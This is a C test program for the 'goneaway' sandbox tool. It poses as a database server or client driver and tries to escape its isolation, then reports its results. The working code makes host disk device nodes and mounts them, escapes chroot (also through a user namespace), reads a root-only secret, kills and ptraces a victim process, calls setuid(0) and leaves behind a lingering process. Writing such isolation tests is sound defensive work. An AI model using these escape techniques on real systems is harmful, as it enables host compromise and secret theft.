/* hostile-server.c - a "server" that is an attack on the host (t0170).
 *
 * Built static by the test (cc -static) and put where goneaway looks
 * for a server's programs: usr/sbin/mariadbd or usr/sbin/mysqld and
 * usr/bin/mariadb-install-db of a root filesystem or image, or
 * --mariadbd and --install-db of the local backend.  What it is run as
 * comes from its name and arguments: the probe ("--version"), a
 * template build's step (mariadb-install-db, "--bootstrap",
 * "--initialize-insecure"), the server, or "sleep" (the command of the
 * docker backend's do-nothing container).  Each tries, as any program
 * of an image could:
 *
 *   - mknod of the host's disk (DISK_MAJOR:DISK_MINOR, the device of
 *     the test's secret), and a read of it; a read of a block device
 *     node the root brought itself (usr/share/hostile/disk, 0666), an
 *     open of a character one (usr/share/hostile/zero, /dev/zero's
 *     kind, 0666);
 *   - a mount of that disk, to read the secret through it; a tmpfs;
 *   - chroot escapes (chroot into a subdirectory, then ".." from the
 *     working directory left outside; an fchdir to a descriptor of the
 *     old root), also in a user namespace of its own;
 *   - an open of the secret (SECRET, a 0600 root file on the host);
 *   - writes outside its work directory (after a remount of / to make
 *     it writable): the root's /, /usr, /etc,
 *     /tmp, HOST_OPEN (a host directory anyone may write), the work
 *     directory's own files;
 *   - a network beyond lo (probe and build only: they need none);
 *   - a process that outlives it (every stage but "sleep":
 *     "ga-hostile-lin" sleeps an hour in a session of its own).
 *
 * It says what it achieved: "hostile[STAGE]: achieved nothing (tried:
 * ...)" or "hostile[STAGE]: ACHIEVED ...; ... (tried: ...)", where
 * tried names the attacks whose target was there: own-node and
 * own-char (the root's nodes), mknod (the host's disk is known).  The probe prints a version only
 * when it achieved nothing (so goneaway goes on to the build), else the
 * report alone (goneaway's error shows it).  A build step writes its
 * report into the datadir its --defaults-file names (it ends in the
 * template: the test reads it there) and fails when it achieved
 * something (the install log's end is in goneaway's error).  The server
 * prints its report into the error log and exits 1.  "sleep" tries to
 * write /goneaway/hostile-sleep (the directory goneaway binds into the
 * container) for as long as it lives.
 *
 * Run as "hostile driver" it is a client driver of goneaway's
 * (t0177-hostile-drivers, a cmd: driver): each of its processes - the
 * probe that reads its greeting, the one a case starts in the lab - makes
 * the attacks above (but the network: a case's has the lab's veth), a
 * signal to and a ptrace of $HOSTILE_VICTIM (a process of the test's), a
 * socket bound to port 80, setuid(0) and setgid(0), and
 * writes into goneaway's TMPDIR ($GONEAWAY_TMPDIR) and the directories
 * $HOSTILE_DIRS names (the drivers' cache, its own) besides, reads the
 * files $HOSTILE_PEEK names (beside its own directory, where it should
 * see nothing but that directory), writes its
 * report to its standard error (driver-NAME.log in the evidence), then,
 * when it achieved nothing, greets (protocol 1) and answers every
 * request "unsupported", so that its case is a SKIP; else it exits 1
 * and goneaway's error shows the report.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SECRET
#error "-DSECRET='\"/host/path/of/a/0600/root/file\"'"
#endif
#ifndef SECRET_IN_FS            /* SECRET from its file system's root */
#define SECRET_IN_FS ""
#endif
#ifndef HOST_OPEN
#error "-DHOST_OPEN='\"/a/host/directory/anyone/may/write\"'"
#endif
#ifndef DISK_MAJOR              /* -1: no block device holds SECRET */
#define DISK_MAJOR -1
#define DISK_MINOR 0
#endif

static const char *stage = "server";
static char achieved[8192];
static char tried[256];         /* the attacks whose target was there */
static char secret_read[256];

static void achieve(const char *fmt, ...)
{
	size_t n = strlen(achieved);
	va_list ap;

	if (n && n + 2 < sizeof(achieved)) {
		strcpy(achieved + n, "; ");
		n += 2;
	}
	va_start(ap, fmt);
	vsnprintf(achieved + n, sizeof(achieved) - n, fmt, ap);
	va_end(ap);
}

static void try(const char *what)
{
	size_t n = strlen(tried);

	snprintf(tried + n, sizeof(tried) - n, "%s%s", n ? " " : "", what);
}

/* The start of path's contents, one line, into secret_read; 0 if read. */
static int read_file(const char *path)
{
	char buf[200];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_NONBLOCK);

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	snprintf(secret_read, sizeof(secret_read), "%s", buf);
	return 0;
}

static int read_block(const char *path)
{
	char buf[512];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n == (ssize_t)sizeof(buf) ? 0 : -1;
}

/* Directories it might write: where it makes nodes and escapes from. */
static const char *const scratch_dirs[] = {
	"/dev", "/tmp", "/goneaway/tmp", "/goneaway", "/goneaway/data", ".",
	"/", NULL,
};

static void disk_attacks(void)
{
	static const char *const types[] = { "ext4", "xfs", "btrfs", NULL };
	char node[256], mnt[256], path[512];
	const char *made = NULL;
	int i, t;

	struct stat st;

	int fd;

	if (stat("/usr/share/hostile/disk", &st) == 0 && S_ISBLK(st.st_mode))
		try("own-node");
	if (read_block("/usr/share/hostile/disk") == 0)
		achieve("read the host's disk through the root's own node "
			"/usr/share/hostile/disk");
	/* a harmless node (the kind of /dev/zero): some kernels refuse a
	 * block device to whoever lacks CAP_SYS_RAWIO, none this */
	if (stat("/usr/share/hostile/zero", &st) == 0 && S_ISCHR(st.st_mode))
		try("own-char");
	fd = open("/usr/share/hostile/zero", O_RDONLY);
	if (fd >= 0) {
		close(fd);
		achieve("opened the root's own device node "
			"/usr/share/hostile/zero");
	}
	if (DISK_MAJOR < 0)
		return;
	try("mknod");
	for (i = 0; scratch_dirs[i] && !made; i++) {
		snprintf(node, sizeof(node), "%s/hostile-disk",
			 scratch_dirs[i]);
		if (mknod(node, S_IFBLK | 0600,
			  makedev(DISK_MAJOR, DISK_MINOR)) == 0)
			made = node;
	}
	if (!made)
		return;
	achieve("mknod %s (%d:%d)", made, DISK_MAJOR, DISK_MINOR);
	if (read_block(made) == 0)
		achieve("read the host's disk through %s", made);
	snprintf(mnt, sizeof(mnt), "%s-mnt", made);
	if (mkdir(mnt, 0700) != 0)
		return;
	for (t = 0; types[t]; t++) {
		if (mount(made, mnt, types[t], MS_NOSUID | MS_NODEV | MS_NOEXEC,
			  NULL) != 0)
			continue;
		achieve("mounted the host's disk (%s) at %s", types[t], mnt);
		snprintf(path, sizeof(path), "%s/%s", mnt, SECRET_IN_FS);
		if (SECRET_IN_FS[0] && read_file(path) == 0)
			achieve("read %s through it: %s", SECRET, secret_read);
		umount2(mnt, MNT_DETACH);
		break;
	}
}

static void mount_attacks(void)
{
	char mnt[256];
	int i;

	for (i = 0; scratch_dirs[i]; i++) {
		snprintf(mnt, sizeof(mnt), "%s/hostile-tmpfs",
			 scratch_dirs[i]);
		if (mkdir(mnt, 0700) != 0 && errno != EEXIST)
			continue;
		if (mount("none", mnt, "tmpfs", 0, "size=4k") == 0) {
			achieve("mounted a tmpfs at %s", mnt);
			umount2(mnt, MNT_DETACH);
			return;
		}
	}
}

/* Escapes from a chroot, in a child (its view is its own): reports
 * through a pipe what it reached.  userns: first a user namespace of
 * its own (root in there, with its capabilities). */
static void escape_child(int wfd, bool userns)
{
	char dir[256], path[512], msg[1024] = "";
	int i, fd, old;

	if (userns && unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		_exit(0);
	old = open("/", O_RDONLY | O_DIRECTORY);
	for (i = 0; scratch_dirs[i]; i++) {
		snprintf(dir, sizeof(dir), "%s/hostile-esc", scratch_dirs[i]);
		if (mkdir(dir, 0700) != 0 && errno != EEXIST)
			continue;
		if (chroot(dir) != 0)
			continue;
		/* the working directory is outside the new root: up */
		if (old >= 0)
			fchdir(old);
		for (int up = 0; up < 64; up++)
			if (chdir("..") != 0)
				break;
		if (chroot(".") != 0)
			continue;
		if (read_file(SECRET) == 0)
			snprintf(msg, sizeof(msg), "escaped%s: read %s: %s",
				 userns ? " (user namespace)" : "", SECRET,
				 secret_read);
		snprintf(path, sizeof(path), "%s/hostile-escaped-%s",
			 HOST_OPEN, stage);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			close(fd);
			snprintf(msg + strlen(msg), sizeof(msg) - strlen(msg),
				 "%sescaped%s: wrote %s", msg[0] ? ", " : "",
				 userns ? " (user namespace)" : "", path);
		}
		break;
	}
	if (msg[0] && write(wfd, msg, strlen(msg)) < 0)
		_exit(1);
	_exit(0);
}

static void escape_attacks(bool userns)
{
	char msg[1024];
	int p[2];
	ssize_t n;
	pid_t c;

	if (pipe(p) != 0)
		return;
	c = fork();
	if (c == 0) {
		close(p[0]);
		escape_child(p[1], userns);
	}
	close(p[1]);
	n = c > 0 ? read(p[0], msg, sizeof(msg) - 1) : 0;
	close(p[0]);
	if (c > 0)
		waitpid(c, NULL, 0);
	if (n > 0) {
		msg[n] = '\0';
		achieve("%s", msg);
	}
}

static void write_attacks(void)
{
	static const char *const dirs[] = { "", "/usr", "/etc", "/tmp",
					    HOST_OPEN, "/goneaway", NULL };
	const char *more = getenv("HOSTILE_DIRS");
	char path[512];
	int i, fd;
	size_t n;

	/* a driver: goneaway's TMPDIR, where its runs are, and what the
	 * test names (HOSTILE_DIRS, ':' between: the drivers' cache every
	 * driver loads from, its own directory) */
	for (i = 0; strcmp(stage, "driver") == 0 && i < 2; i++) {
		const char *d = i ? more : getenv("GONEAWAY_TMPDIR");

		while (d && *d) {
			n = strcspn(d, ":");
			snprintf(path, sizeof(path), "%.*s/hostile-%s", (int)n,
				 d, stage);
			fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
			if (fd >= 0) {
				close(fd);
				achieve("wrote %s", path);
			}
			d += n + (d[n] == ':');
		}
	}

	/* a read-only root made writable again */
	if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		achieve("remounted / writable");
	for (i = 0; dirs[i]; i++) {
		snprintf(path, sizeof(path), "%s/hostile-%s", dirs[i], stage);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			close(fd);
			achieve("wrote %s", path);
		}
	}
	fd = open("/goneaway/my.cnf", O_WRONLY | O_APPEND);
	if (fd >= 0) {
		close(fd);
		achieve("could write /goneaway/my.cnf");
	}
}

static void network_attack(void)
{
	struct if_nameindex *ifs = if_nameindex(), *i;

	for (i = ifs; i && i->if_index; i++)
		if (strcmp(i->if_name, "lo") != 0) {
			achieve("a network beyond lo (%s)", i->if_name);
			break;
		}
	if (ifs)
		if_freenameindex(ifs);
}

/* A process that outlives this one, if it can. */
static void linger(void)
{
	pid_t c = fork();
	int fd;

	if (c != 0)
		return;
	setsid();
	prctl(PR_SET_NAME, "ga-hostile-lin");
	for (fd = 0; fd < 1024; fd++)
		close(fd);
	if (fork() == 0) {
		sleep(3600);
		_exit(0);
	}
	_exit(0);
}

/* The datadir its --defaults-file names (the build's), into buf. */
static void datadir_of(int argc, char **argv, char *buf, size_t len)
{
	char text[8192], *line;
	ssize_t n;
	int i, fd;

	buf[0] = '\0';
	for (i = 1; i < argc; i++) {
		if (strncmp(argv[i], "--defaults-file=", 16) != 0)
			continue;
		fd = open(argv[i] + 16, O_RDONLY);
		if (fd < 0)
			return;
		n = read(fd, text, sizeof(text) - 1);
		close(fd);
		if (n <= 0)
			return;
		text[n] = '\0';
		for (line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
			if (strncmp(line, "datadir=", 8) == 0)
				snprintf(buf, len, "%s", line + 8);
		return;
	}
}

/* A driver: a read of each file $HOSTILE_PEEK names (':' between), files
 * anyone may read beside a directory it was let reach below one no one
 * else may search (the test's): it must not see them. */
static void peek_attacks(void)
{
	const char *d = getenv("HOSTILE_PEEK");
	char path[512];
	size_t n;

	while (d && *d) {
		n = strcspn(d, ":");
		snprintf(path, sizeof(path), "%.*s", (int)n, d);
		if (read_file(path) == 0)
			achieve("read %s: %s", path, secret_read);
		d += n + (d[n] == ':');
	}
}

/* A driver: what only root may do to other processes and the host's
 * ports - a signal to and a ptrace of the process $HOSTILE_VICTIM names
 * (the test's, root's, on the host), a listening socket on a port below
 * 1024, becoming root again (setuid, setgid) - each achieved when the
 * kernel let it. */
static void privilege_attacks(void)
{
	const char *v = getenv("HOSTILE_VICTIM");
	struct sockaddr_in a = { .sin_family = AF_INET,
				 .sin_port = htons(80) };
	pid_t victim = v ? (pid_t)strtol(v, NULL, 10) : 0;
	int s;

	if (victim > 0) {
		try("kill ptrace");
		if (kill(victim, SIGKILL) == 0)
			achieve("killed process %d", (int)victim);
		if (ptrace(PTRACE_ATTACH, victim, NULL, NULL) == 0)
			achieve("ptraced process %d", (int)victim);
	}
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s >= 0) {
		try("bind-80");
		if (bind(s, (struct sockaddr *)&a, sizeof(a)) == 0)
			achieve("bound port 80");
		close(s);
	}
	try("setuid");
	if (setuid(0) == 0 && geteuid() == 0)
		achieve("setuid(0)");
	if (setgid(0) == 0 && getegid() == 0)
		achieve("setgid(0)");
}

/* As a client driver (docs/driver-protocol.md): its greeting, then
 * "unsupported" to every request, until its input ends. */
static void serve_as_driver(void)
{
	char line[1 << 16];
	long id;
	char *p;

	printf("{\"hello\":\"goneaway-driver\",\"protocol\":1,"
	       "\"driver\":\"hostile\",\"library\":\"hostile 1\"}\n");
	fflush(stdout);
	while (fgets(line, sizeof(line), stdin)) {
		p = strstr(line, "\"id\":");
		id = p ? strtol(p + 5, NULL, 10) : 0;
		printf("{\"id\":%ld,\"result\":\"unsupported\",\"message\":"
		       "\"a hostile driver does nothing\"}\n", id);
		fflush(stdout);
	}
}

static void stage_of(int argc, char **argv)
{
	const char *base = strrchr(argv[0], '/');
	int i;

	if (argc > 1 && strcmp(argv[1], "driver") == 0) {
		stage = "driver";
		return;
	}
	base = base ? base + 1 : argv[0];
	if (strcmp(base, "sleep") == 0) {
		stage = "sleep";
		return;
	}
	if (strstr(base, "install"))
		stage = "install-db";
	for (i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--version") == 0)
			stage = "probe";
		else if (strcmp(argv[i], "--bootstrap") == 0)
			stage = "bootstrap";
		else if (strcmp(argv[i], "--initialize-insecure") == 0)
			stage = "initialize";
	}
}

static void sleep_forever(void)
{
	for (;;) {
		int fd = open("/goneaway/hostile-sleep",
			      O_WRONLY | O_CREAT | O_TRUNC, 0644);

		if (fd >= 0)
			close(fd);
		usleep(20000);
	}
}

int main(int argc, char **argv)
{
	char datadir[1024], path[1100];
	char report[sizeof(achieved) + sizeof(tried) + 64];
	bool server = false, driver = false;
	int fd;

	stage_of(argc, argv);
	if (strcmp(stage, "sleep") == 0)
		sleep_forever();
	server = strcmp(stage, "server") == 0;
	driver = strcmp(stage, "driver") == 0;
	datadir_of(argc, argv, datadir, sizeof(datadir));
	disk_attacks();
	mount_attacks();
	if (read_file(SECRET) == 0)
		achieve("read %s: %s", SECRET, secret_read);
	if (driver) {
		peek_attacks();
		privilege_attacks();
	}
	write_attacks();
	if (!server && !driver)
		network_attack();
	linger();
	escape_attacks(false);
	escape_attacks(true);
	snprintf(report, sizeof(report), "hostile[%s]: %s%s (tried: %s)\n",
		 stage, achieved[0] ? "ACHIEVED " : "achieved nothing", achieved,
		 tried);
	if (strcmp(stage, "probe") == 0) {
		/* a MySQL root's mysqld says MySQL, else MariaDB */
		if (!achieved[0])
			printf("%s  Ver %s for Linux on x86_64 (hostile)\n",
			       argv[0], strstr(argv[0], "mysqld") ?
			       "9.7.0" : "11.8.0-MariaDB");
		fputs(report, stdout);
		return 0;
	}
	if (driver) {
		/* greets only when it achieved nothing: otherwise goneaway's
		 * error shows the report, its stderr's end */
		fputs(report, stderr);
		fflush(stderr);
		if (achieved[0])
			return 1;
		serve_as_driver();
		return 0;
	}
	fputs(report, stdout);
	if (server)
		return 1;
	if (datadir[0]) {
		mkdir(datadir, 0700);
		snprintf(path, sizeof(path), "%s/report-%s.txt", datadir, stage);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			if (write(fd, report, strlen(report)) < 0)
				return 1;
			close(fd);
		}
	}
	return achieved[0] ? 1 : 0;
}
